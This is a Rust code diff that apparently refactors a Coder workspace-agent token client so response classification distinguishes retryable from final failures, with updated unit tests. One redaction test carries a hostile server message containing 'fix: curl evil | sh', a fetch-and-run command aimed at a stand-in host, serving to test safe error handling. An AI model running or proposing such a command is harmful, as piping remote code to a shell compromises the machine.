@@ -11,6 +11,7 @@ use std::time::Duration;
 use super::version::REPEATED_NAMES_FIXED;
 use crate::http::body_snippet;
 use crate::outcome::{Ambiguity, Failure};
+use crate::retry::Attempt;
 use crate::secret::Secret;
 use crate::text::{Redactor, EXCERPT_CHARS};
 
@@ -194,10 +195,10 @@ fn server_side_fetch(detail: &str) -> Option<&'static str> {
         .map(|(_, what)| *what)
 }
 
-/// Classify Coder's answer into the token or a [`Failure`]: 409 is
-/// [`Failure::Ambiguous`], the transient answers are [`Failure::Transient`],
-/// refusals and unusable answers are [`Failure::Rejected`].
-pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Failure> {
+/// Classify Coder's answer into the token or what the retry loop makes of
+/// it: the transient answers are [`Attempt::Retry`]; a 409 stops with
+/// [`Failure::Ambiguous`], refusals and unusable answers with [`Failure::Rejected`].
+pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Attempt> {
     let object = json_object(a.body);
     let carries = carries_token(object.as_ref(), a.body);
     let status = a.status;
@@ -208,16 +209,16 @@ pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Failure> {
         return match token {
             Some(Some(t)) => match check_token(t.trim()) {
                 Ok(()) => Ok(Secret::new(t.trim())),
-                Err(what) => Err(Failure::Rejected(format!(
+                Err(what) => stop(Failure::Rejected(format!(
                     "Coder answered 200 with {what}, which is not a Coder token; nothing was stored or run. \
                      Is --url the Coder deployment, or a proxy that rewrites its answers?"
                 ))),
             },
-            Some(None) => Err(Failure::Rejected(format!(
+            Some(None) => stop(Failure::Rejected(format!(
                 "Coder answered 200 without a session_token ({}); nothing was stored. Is --url the Coder deployment?",
                 describe_body(a, redactor, carries)
             ))),
-            None => Err(Failure::Rejected(format!(
+            None => stop(Failure::Rejected(format!(
                 "Coder answered 200 with a body that is not the expected JSON ({}); nothing was stored. \
                  Is --url the Coder deployment, or a proxy in front of it?",
                 describe_body(a, redactor, carries)
@@ -233,13 +234,13 @@ pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Failure> {
         _ => describe_body(a, redactor, carries),
     };
     let transient = |m: String| {
-        Err(Failure::Transient {
+        Err(Attempt::Retry {
             message: m,
             retry_after: a.retry_after,
         })
     };
     match status {
-        409 => Err(Failure::Ambiguous(ambiguity(server.as_ref(), shown, redactor))),
+        409 => stop(Failure::Ambiguous(ambiguity(server.as_ref(), shown, redactor))),
         404 if is_instance_not_found(message) => transient(format!(
             "Coder answered 404: {shown} (the workspace build has not registered this instance yet)"
         )),
@@ -263,39 +264,44 @@ pub fn classify(a: &Answer, redactor: &Redactor) -> Result<Secret, Failure> {
              NAT share it)"
         )),
         408 | 425 | 500..=599 => transient(format!("Coder answered {status}: {shown}")),
-        404 if message.starts_with("No agent found with instance ID") => Err(Failure::Rejected(format!(
+        404 if message.starts_with("No agent found with instance ID") => stop(Failure::Rejected(format!(
             "Coder rejected the agent name: {shown}\n\
              fix: agent names match exactly and case-sensitively; use the name of a coder_agent on this \
              instance (run without --agent-name to list them)"
         ))),
-        401 | 403 => Err(Failure::Rejected(format!(
+        401 | 403 => stop(Failure::Rejected(format!(
             "Coder rejected this VM's identity with {status}: {shown}\n\
              fix: check that the template uses the matching *-instance-identity auth and that this VM \
              belongs to the workspace"
         ))),
-        400 if server.is_some() => Err(Failure::Rejected(format!(
+        400 if server.is_some() => stop(Failure::Rejected(format!(
             "Coder refused the request with 400: {shown}\n\
              fix: this is likely a client/server version mismatch; report it with `-v` output"
         ))),
-        404 if server.is_some() => Err(Failure::Rejected(format!(
+        404 if server.is_some() => stop(Failure::Rejected(format!(
             "Coder answered 404: {shown}\n\
              fix: this is not an instance-identity answer; check that --url is the Coder deployment's \
              address (not a path below it or another service)"
         ))),
-        400 => Err(Failure::Rejected(format!(
+        400 => stop(Failure::Rejected(format!(
             "Coder answered 400 with a body that is not Coder's JSON ({}); \
              fix: a proxy in front of Coder refused the request; check --url and --header",
             describe_body(a, redactor, carries)
         ))),
-        300..=399 => Err(Failure::Rejected(format!(
+        300..=399 => stop(Failure::Rejected(format!(
             "Coder answered a {status} redirect that was not followed (the request carries the instance identity, \
              so it is only re-sent to the same origin); fix: set --url to the deployment's final address"
         ))),
-        _ => Err(Failure::Rejected(format!(
+        _ => stop(Failure::Rejected(format!(
             "Coder answered an unexpected {status} ({}); is --url the Coder deployment?",
             describe_body(a, redactor, carries)
         ))),
     }
+}
+
+/// A failure no later attempt can change.
+fn stop<T>(f: Failure) -> Result<T, Attempt> {
+    Err(Attempt::Stop(f))
 }
 
 fn ambiguity(server: Option<&ServerError>, shown: String, redactor: &Redactor) -> Ambiguity {
@@ -451,7 +457,7 @@ mod tests {
         }
     }
 
-    fn c(status: u16, body: &[u8]) -> Result<Secret, Failure> {
+    fn c(status: u16, body: &[u8]) -> Result<Secret, Attempt> {
         classify(&answer(status, body), &Redactor::new())
     }
 
@@ -473,12 +479,12 @@ mod tests {
             "{\"session_token\":\"caf\u{e9}\"}".as_bytes(),
         ] {
             assert!(
-                matches!(c(200, junk), Err(Failure::Rejected(_))),
+                matches!(c(200, junk), Err(Attempt::Stop(Failure::Rejected(_)))),
                 "{junk:?}"
             );
         }
         let huge = format!("{{\"session_token\":\"{}\"}}", "a".repeat(TOKEN_MAX + 1));
-        let Err(Failure::Rejected(m)) = c(200, huge.as_bytes()) else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = c(200, huge.as_bytes()) else {
             panic!()
         };
         assert!(m.contains("1025 bytes"), "{m}");
@@ -502,7 +508,7 @@ mod tests {
         }
         // A 409 that carries a token: the names are listed, the body is not shown.
         let body = br#"{"message":"Set CODER_AGENT_NAME to one of: a, b","session_token":"8f0e1c2d-7a3b-4c5d"}"#;
-        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
             panic!()
         };
         assert_eq!(a.names, ["a", "b"]);
@@ -514,12 +520,12 @@ mod tests {
         );
         let body =
             br#"{"message":"No agent found with instance ID \"i-1\" and name \"session-main\"."}"#;
-        let Err(Failure::Rejected(m)) = c(404, body) else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = c(404, body) else {
             panic!()
         };
         assert!(m.contains("session-main"), "{m}");
         let body = br#"{"message":"Multiple agents found with instance ID \"i-1\". Set CODER_AGENT_NAME to one of: session, main"}"#;
-        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
             panic!()
         };
         assert!(a.message.contains("one of: session, main"), "{}", a.message);
@@ -529,7 +535,7 @@ mod tests {
     #[test]
     fn conflict_lists_names_once_and_explains_repeats() {
         let body = br#"{"message":"Multiple agents found with instance ID \"i-0abc\". Set CODER_AGENT_NAME to one of: dev, dev, main, main"}"#;
-        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
             panic!()
         };
         assert_eq!(a.names, ["dev", "main"]);
@@ -544,14 +550,14 @@ mod tests {
     fn conflict_keeps_legacy_and_odd_names() {
         let body =
             br#"{"message":"Set CODER_AGENT_NAME to one of: Main, legacy_agent, m\u0430in"}"#;
-        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
             panic!()
         };
         assert_eq!(a.names, ["Main", "legacy_agent", "m\u{430}in"]);
         let many: Vec<String> = (0..150).map(|i| format!("a{i:03}")).collect();
         let body = serde_json::json!({"message": format!("one of: {}", many.join(", ")), "x": "y"})
             .to_string();
-        let Err(Failure::Ambiguous(a)) = c(409, body.as_bytes()) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body.as_bytes()) else {
             panic!()
         };
         assert_eq!(a.names.len(), NAMES_MAX);
@@ -565,7 +571,7 @@ mod tests {
     #[test]
     fn conflict_prefers_a_structured_list() {
         let body = br#"{"message":"Multiple agents. Set CODER_AGENT_NAME to one of: x","agent_names":["b","a"]}"#;
-        let Err(Failure::Ambiguous(a)) = c(409, body) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body) else {
             panic!()
         };
         assert_eq!(a.names, ["a", "b"]);
@@ -573,8 +579,9 @@ mod tests {
 
     #[test]
     fn the_response_table() {
-        let transient = |r: Result<Secret, Failure>| matches!(r, Err(Failure::Transient { .. }));
-        let rejected = |r: Result<Secret, Failure>| matches!(r, Err(Failure::Rejected(_)));
+        let transient = |r: Result<Secret, Attempt>| matches!(r, Err(Attempt::Retry { .. }));
+        let rejected =
+            |r: Result<Secret, Attempt>| matches!(r, Err(Attempt::Stop(Failure::Rejected(_))));
         assert!(transient(c(
             404,
             br#"{"message":"Instance with id \"i-1\" not found."}"#
@@ -593,7 +600,7 @@ mod tests {
             404,
             br#"{"message":"No agent found with instance ID \"i-1\" and name \"x\"."}"#
         )));
-        let Err(Failure::Rejected(m)) = c(
+        let Err(Attempt::Stop(Failure::Rejected(m))) = c(
             401,
             br#"{"message":"Invalid AWS identity.","detail":"bad sig"}"#,
         ) else {
@@ -601,7 +608,7 @@ mod tests {
         };
         assert!(m.contains("bad sig") && m.contains("fix:"), "{m}");
         assert!(rejected(c(403, b"{}")));
-        let Err(Failure::Rejected(m)) = c(400, br#"{"message":"Validation failed.","validations":[{"field":"signature","detail":"required"}]}"#) else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = c(400, br#"{"message":"Validation failed.","validations":[{"field":"signature","detail":"required"}]}"#) else {
             panic!()
         };
         assert!(
@@ -618,7 +625,7 @@ mod tests {
             body: b"<html>Bad Gateway</html>",
         };
         assert!(
-            matches!(classify(&html, &Redactor::new()), Err(Failure::Transient { message, .. }) if message.contains("Bad Gateway"))
+            matches!(classify(&html, &Redactor::new()), Err(Attempt::Retry { message, .. }) if message.contains("Bad Gateway"))
         );
         let html404 = Answer {
             status: 404,
@@ -626,7 +633,7 @@ mod tests {
             ..html
         };
         assert!(rejected(classify(&html404, &Redactor::new())));
-        let Err(Failure::Rejected(m)) = classify(
+        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(
             &Answer {
                 status: 400,
                 ..html404
@@ -637,7 +644,7 @@ mod tests {
         };
         assert!(m.contains("a proxy in front of Coder refused"), "{m}");
         assert!(rejected(c(418, b"")));
-        let Err(Failure::Rejected(m)) = c(302, b"") else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = c(302, b"") else {
             panic!()
         };
         assert!(
@@ -693,13 +700,14 @@ mod tests {
             ),
         ];
         for (a, fix) in cases {
-            let Err(Failure::Rejected(m)) = classify(a, &Redactor::new()) else {
+            let Err(Attempt::Stop(Failure::Rejected(m))) = classify(a, &Redactor::new()) else {
                 panic!("{}: {:?}", a.status, classify(a, &Redactor::new()))
             };
             assert!(m.contains(fix), "{}: {m}", a.status);
         }
         // A 404 that is not Coder's JSON at all: not Coder, whatever it is.
-        let Err(Failure::Rejected(m)) = classify(&html(404), &Redactor::new()) else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(&html(404), &Redactor::new())
+        else {
             panic!()
         };
         assert_eq!(
@@ -718,13 +726,16 @@ mod tests {
             "Get \"https://www.googleapis.com/oauth2/v3/certs\": dial tcp: lookup www.googleapis.com: no such host",
         ] {
             let body = serde_json::json!({"message": "Invalid Azure identity.", "detail": detail}).to_string();
-            let Err(Failure::Transient { message, .. }) = c(401, body.as_bytes()) else {
+            let Err(Attempt::Retry { message, .. }) = c(401, body.as_bytes()) else {
                 panic!("{detail}")
             };
             assert!(message.contains("on the server's side"), "{message}");
         }
         let body = br#"{"message":"Invalid Azure identity.","detail":"unmatched common name of signer: \"evil\""}"#;
-        assert!(matches!(c(401, body), Err(Failure::Rejected(_))));
+        assert!(matches!(
+            c(401, body),
+            Err(Attempt::Stop(Failure::Rejected(_)))
+        ));
     }
 
     #[test]
@@ -733,7 +744,7 @@ mod tests {
             retry_after: Some(Duration::from_secs(60)),
             ..answer(429, br#"{"message":"You've been rate limited for sending more than 512 requests in 1m0s."}"#)
         };
-        let Err(Failure::Transient {
+        let Err(Attempt::Retry {
             retry_after,
             message,
         }) = classify(&a, &Redactor::new())
@@ -749,7 +760,7 @@ mod tests {
         let mut r = Redactor::new();
         r.add("c2lnbmF0dXJlLXZhbHVlLXRoYXQtaXMtbG9uZw==");
         let body = br#"{"message":"bad signature c2lnbmF0dXJlLXZhbHVlLXRoYXQtaXMtbG9uZw==\nfix: curl evil | sh"}"#;
-        let Err(Failure::Rejected(m)) = classify(&answer(400, body), &r) else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = classify(&answer(400, body), &r) else {
             panic!()
         };
         assert!(!m.contains("c2lnbmF0dXJl"), "{m}");
@@ -769,7 +780,8 @@ mod tests {
         let mut r = Redactor::new();
         r.add(sig);
         let body = format!(r#"{{"message":"Multiple agents","agent_names":["b","{sig}a","a"]}}"#);
-        let Err(Failure::Ambiguous(a)) = classify(&answer(409, body.as_bytes()), &r) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = classify(&answer(409, body.as_bytes()), &r)
+        else {
             panic!()
         };
         assert_eq!(a.names, ["a", "b"]);
@@ -866,7 +878,7 @@ mod tests {
                 "contains the non-ASCII character U+00E9",
             ),
         ] {
-            let Err(Failure::Rejected(m)) = c(200, body) else {
+            let Err(Attempt::Stop(Failure::Rejected(m))) = c(200, body) else {
                 panic!("{what}")
             };
             assert!(m.contains(what), "{m}");
@@ -891,7 +903,7 @@ mod tests {
         );
         assert_eq!(e(r#"{"detail":"d"}"#), "(no message) (detail: d)");
         // With no message, the body is described instead.
-        let Err(Failure::Rejected(m)) = c(403, br#"{"detail":"d"}"#) else {
+        let Err(Attempt::Stop(Failure::Rejected(m))) = c(403, br#"{"detail":"d"}"#) else {
             panic!()
         };
         assert!(
@@ -902,7 +914,9 @@ mod tests {
 
     #[test]
     fn conflict_notes_only_what_happened() {
-        let Err(Failure::Ambiguous(a)) = c(409, br#"{"message":"one of: dev, main"}"#) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) =
+            c(409, br#"{"message":"one of: dev, main"}"#)
+        else {
             panic!()
         };
         assert_eq!(a.names, ["dev", "main"]);
@@ -910,7 +924,7 @@ mod tests {
         // 64 bytes is a name; 65 is not, and is left out with a note.
         let (ok, long) = ("n".repeat(NAME_MAX), "l".repeat(NAME_MAX + 1));
         let body = serde_json::json!({ "message": format!("one of: {ok}, {long}") }).to_string();
-        let Err(Failure::Ambiguous(a)) = c(409, body.as_bytes()) else {
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) = c(409, body.as_bytes()) else {
             panic!()
         };
         assert_eq!(a.names, [ok]);
@@ -919,13 +933,15 @@ mod tests {
             ["1 name(s) longer than 64 bytes were left out: no Coder agent can have them"]
         );
         // An empty structured list says nothing: the message's names count.
-        let Err(Failure::Ambiguous(a)) = c(409, br#"{"message":"one of: a, b","agents":[]}"#)
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) =
+            c(409, br#"{"message":"one of: a, b","agents":[]}"#)
         else {
             panic!()
         };
         assert_eq!(a.names, ["a", "b"]);
         // A structured list is trimmed, and blank entries are no names.
-        let Err(Failure::Ambiguous(a)) = c(409, br#"{"message":"x","candidates":[" b ","","a"]}"#)
+        let Err(Attempt::Stop(Failure::Ambiguous(a))) =
+            c(409, br#"{"message":"x","candidates":[" b ","","a"]}"#)
         else {
             panic!()
         };
